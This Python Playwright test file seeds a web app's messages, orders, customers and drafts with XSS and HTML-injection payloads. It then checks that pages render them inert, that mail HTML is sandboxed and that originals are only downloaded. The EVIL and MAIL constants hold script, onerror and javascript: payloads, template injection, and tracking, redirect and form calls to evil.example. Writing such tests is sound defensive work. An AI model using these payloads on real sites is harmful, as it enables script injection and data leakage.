"""Names, texts and documents that try to be scripts: nothing runs, nothing is fetched, nothing is pressed."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import Page, expect
from sqlalchemy import update

from models.domain.evidence import PageKind
from models.domain.messages import Source
from models.domain.pages import Page as DocumentPage
from models.domain.pages import SourceFormat, Word
from models.domain.states import MessageState
from models.tables.cases import CaseRow, DraftRow
from models.tables.intake import MailboxRow
from models.tables.items import ItemRow
from models.tables.orders import SalesOrderRow
from models.tables.outbox import OutboxRow
from models.tables.partners import CustomerRow
from models.tables.people import UserRow
from tests.e2e.ui.conftest import Visit
from tests.support.desk import Desk
from tests.support.desk_cases import add_document, add_message

pytestmark = pytest.mark.browser

EVIL = (
    "<script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>\"'><iframe src=javascript:alert(4)>"
    "</textarea><a href='javascript:alert(5)' hx-get='https://evil.example/' hx-trigger='load'>x</a>{{7*7}}")
MAIL = f"""<html><head><meta http-equiv=refresh content="0;url=https://evil.example/"><base href=https://evil.example/>
<style>@import url(https://evil.example/x.css); body{{background:url(https://evil.example/y.png)}}</style></head>
<body onload=alert(6)><p>Please deliver <b>12 boxes</b>.</p>{EVIL}<form action=https://evil.example/>
<button autofocus>Go</button></form><object data=https://evil.example/z></object><a href=https://evil.example/ ping=https://evil.example/p>look</a>
<img src="https://evil.example/pixel.png"><math><mi xlink:href="data:x,<script>alert(7)</script>"></math></body></html>"""


def poison(desk: Desk) -> int:
    """Put the evil text wherever a text of somebody else's can stand; answers the document with the evil mail."""
    words = (Word(EVIL, 0, (0, 0, len(EVIL), 1)),)
    page = DocumentPage(0, PageKind.TEXT, len(EVIL), 1, words, name=EVIL)
    with desk.db.write() as db:
        message_id = add_message(
            desk, db, subject=EVIL, sender="x@y.example", sender_name=EVIL, state=MessageState.FAILED, code="evil", sentence=EVIL,
            name=EVIL[:255], source=Source.MAIL)
        document_id = add_document(
            desk, db, message_id, MAIL.encode(), [page], name=EVIL[:255], format=SourceFormat.HTML, is_body=True)
        db.execute(update(CustomerRow).values(name=EVIL[:255]))
        db.execute(update(ItemRow).values(description=EVIL))
        db.execute(update(UserRow).where(UserRow.login == "adam").values(name=EVIL))
        db.execute(update(CaseRow).values(message_id=message_id, sentence=EVIL, po_number=EVIL[:255]))
        db.execute(update(OutboxRow).values(sentence=EVIL))
        db.execute(update(SalesOrderRow).values(po_number=EVIL[:255], notes=EVIL, approved_by=EVIL[:255]))
        db.execute(update(MailboxRow).values(last_error=EVIL))
        for row in db.query(DraftRow):
            row.content = row.content.replace("PO-7712", json.dumps(EVIL)[1:-1])
    return document_id


def look_at(page: Page, path: str) -> None:
    """Open a page, and wait until its scripts have run and the document it shows stands."""
    page.goto(path)
    if path.startswith("/cases/"):
        page.locator("#sheet [data-word], #sheet .no-page").first.wait_for(state="attached")
    page.evaluate("new Promise((done) => requestIdleCallback(done))")


@pytest.mark.slow
def test_nothing_of_what_others_wrote_runs_or_calls_out(desk: Desk, visit: Visit) -> None:
    poison(desk)
    visitor = visit("anna")
    page = visitor.page
    for path in ("/", "/messages", "/orders", "/orders/SO-000001", "/operations", "/?view=aside", "/?text=" + "%3Cscript%3E"):
        look_at(page, path)
    for name in ("doubtful", "held", "sheet"):
        look_at(page, f"/cases/{desk.ids[name]}")
        page.keyboard.press("h")
        if name != "held":                       # a case that somebody else holds is not searched for
            page.keyboard.press("/")
            page.locator("#picker-text").fill("glv")
            expect(page.locator("#picker-list [role=option]").first).to_contain_text("<script>")
            page.keyboard.press("Escape")
    assert visitor.troubles == []


def test_a_mails_html_is_shown_without_scripts_pictures_or_links(desk: Desk, visit: Visit) -> None:
    document_id = poison(desk)
    visitor = visit("anna")
    page = visitor.page
    look_at(page, f"/cases/{desk.ids['doubtful']}")
    page.locator(f"#viewer [data-doc='{document_id}']").click()
    page.get_by_text("As the sender laid it out").click()
    mail = page.frame_locator(".as-mail iframe")
    expect(mail.locator("b")).to_have_text("12 boxes")
    for tag in ("script", "img", "iframe", "form", "button", "a[href]", "object", "meta[http-equiv]", "base", "svg"):
        expect(mail.locator(tag)).to_have_count(0)
    assert visitor.troubles == []


def test_a_mails_html_opened_by_itself_stays_in_its_cage(desk: Desk, visit: Visit) -> None:
    document_id = poison(desk)
    visitor = visit("anna")
    visitor.page.goto(f"/documents/{document_id}/mail.html")        # its scripts never run, so there is nothing to wait for
    assert visitor.page.evaluate("window.origin") == "null"
    assert visitor.troubles == []


def test_originals_are_saved_and_never_opened(desk: Desk, visit: Visit) -> None:
    document_id = poison(desk)
    page = visit("anna").page
    look_at(page, f"/cases/{desk.ids['doubtful']}")
    page.locator(f"#viewer [data-doc='{document_id}']").click()
    expect(page.locator("#original")).to_have_attribute("href", f"/documents/{document_id}/original")
    with page.expect_download() as download:
        page.locator("#original").click()
    assert download.value.path().read_bytes() == MAIL.encode()
